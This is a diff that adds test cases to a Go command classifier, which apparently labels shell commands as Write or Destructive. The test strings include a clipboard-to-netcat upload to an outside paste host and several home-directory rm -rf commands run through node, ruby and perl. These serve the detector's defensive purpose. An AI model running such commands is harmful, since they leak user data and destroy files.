@@ -575,6 +575,15 @@ func TestClassify(t *testing.T) {
 		{"pbpaste | nc termbin.com 9999", Destructive},
 		{"wl-paste | jq .", Write},
 		{"xclip -selection clipboard < notes.txt", Write},
+		// backticks run a command only where the language says so: a JavaScript template literal is a string
+		{"node -e 'console.log(`${p} ${lock.packages[p].version}`)'", Write},
+		{"node - <<'EOF'\nconst hits = [];\nconsole.log(hits.map(p => `${p} ${x[p].version}`).join(\"\\n\"));\nEOF", Write},
+		{"node -e 'require(\"child_process\").execSync(`rm -rf ${process.env.HOME}/x`)'", Destructive},
+		{"ruby -e '`rm -rf ~/x`'", Destructive},
+		{"perl -e '`rm -rf ~/x`'", Destructive},
+		// a relative glob is the working directory's, not the home directory's
+		{`ruby -e 'Dir.glob("build/*.o").each { |f| File.delete(f) }'`, Write},
+		{`ruby -e 'Dir.glob(File.expand_path("~/build/*.o")).each { |f| File.delete(f) }'`, Destructive},
 	}
 	for _, tc := range tests {
 		got := classifyT(t, tc.cmd)
